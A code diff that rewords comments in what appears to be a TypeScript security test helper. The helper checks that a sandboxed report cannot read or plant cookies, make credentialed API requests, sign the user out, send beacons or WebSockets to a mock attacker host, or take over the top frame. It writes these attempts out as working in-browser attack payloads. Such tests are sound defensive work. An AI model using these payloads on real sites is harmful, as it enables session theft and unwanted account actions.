@@ -1,7 +1,8 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 
-/** What a report might try, each as a function body that gives what it got hold of. `secret` stands for the session. */
+/** Attacks that a report could attempt, as function bodies that return what they obtained. `secret` stands for
+ *  the session. */
 const ATTEMPTS: Record<string, string> = {
   "reads cookies": "return document.cookie",
   "sets a cookie": "document.cookie = 'planted=1; path=/'; return document.cookie",
@@ -18,7 +19,7 @@ const ATTEMPTS: Record<string, string> = {
     "return await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '/api/orders'); x.withCredentials = true; x.onload = () => yes(x.responseText); x.onerror = () => no(new Error('refused')); x.send() })",
   "changes something":
     "return (await fetch('/api/auth/sign-out', { method: 'POST', credentials: 'include' })).text()",
-  // Tells nobody whether it went out: the log does.
+  // The result does not show whether the beacon was sent; the log does.
   "sends a beacon":
     "navigator.sendBeacon('ELSEWHERE/beacon', 'x'); navigator.sendBeacon('/api/beacon', 'x'); throw new Error('unseen')",
   "opens a WebSocket":
@@ -44,7 +45,7 @@ const ATTEMPTS: Record<string, string> = {
     "if (top === window) throw new Error('refused'); top.location.href = 'ELSEWHERE/taken'; await new Promise((on) => setTimeout(on, 300)); throw new Error('unseen')",
 };
 
-/** The script that tries all of it and leaves `window.attempts`: what each one got, or "refused". */
+/** The script that attempts all attacks and sets `window.attempts`: the result of each, or "refused". */
 export function hostileScript(elsewhere: string): string {
   const entries = Object.entries(ATTEMPTS).map(
     ([name, body]) => `${JSON.stringify(name)}: async () => { ${body.replaceAll("ELSEWHERE", elsewhere)} }`,
@@ -61,10 +62,10 @@ export function hostileScript(elsewhere: string): string {
   })()`;
 }
 
-/** All attempts, none of which came to anything. */
+/** All attempts, each refused. */
 export const NOTHING_GOT = Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, "refused"]));
 
-/** A site of the attacker that writes down every request and connection it gets. */
+/** A site of the attacker that records every request and connection. */
 export async function elsewhere() {
   const heard: string[] = [];
   const server = createServer((req, res) => {
